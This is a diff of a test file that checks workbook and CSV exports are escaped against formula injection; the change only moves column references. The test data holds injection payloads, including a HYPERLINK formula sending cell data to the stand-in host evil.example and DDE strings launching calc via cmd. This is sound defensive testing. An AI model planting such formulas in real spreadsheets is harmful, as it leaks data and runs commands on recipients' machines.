@@ -183,11 +183,11 @@ describe('formula injection in every workbook', { timeout: 120_000 }, () => {
     const summary = workbook.getWorksheet('Summary');
     expect(summary?.getCell('A2').value).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Helvetic")');
     expect(summary?.getCell('B2').value).toBe("'+cmd|' /C calc'!A0");
-    expect(summary?.getCell('H4').value).toEqual({ formula: 'SUMIFS(H2:H2,C2:C2,"CHF")', result: ids.netMinor / 100 });
+    expect(summary?.getCell('J4').value).toEqual({ formula: 'SUMIFS(J2:J2,C2:C2,"CHF")', result: ids.netMinor / 100 });
     const lines = workbook.getWorksheet('Invoice lines');
     expect(lines?.getCell('D2').value).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
     const detail = workbook.getWorksheet('Timesheet detail');
-    const notes = [2, 3, 4].map((r) => detail?.getRow(r).getCell(12).value);
+    const notes = [2, 3, 4].map((r) => detail?.getRow(r).getCell(14).value);
     expect(notes).toEqual(["'-2+3+cmd|' /C calc'!A0", "'=1+2", 'plain note']);
   });
 
@@ -234,7 +234,7 @@ describe('formula injection in every workbook', { timeout: 120_000 }, () => {
         const rows = parseCsv(readFileSync(join(dir, csvName ?? 'missing.csv'), 'utf8'), { relax_column_count: true }) as string[][];
         expect(rows[1]?.[0]).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"Helvetic")');
         const total = rows.find((r) => r[0] === 'Total');
-        expect(Number(total?.[7]?.replace(/[^\d.]/g, ''))).toBe(ids.netMinor / 100);
+        expect(Number(total?.[9]?.replace(/[^\d.]/g, ''))).toBe(ids.netMinor / 100);
         for (const r of rows) for (const cell of r) expect(cell).not.toMatch(DANGEROUS);
       } finally {
         rmSync(dir, { recursive: true, force: true });
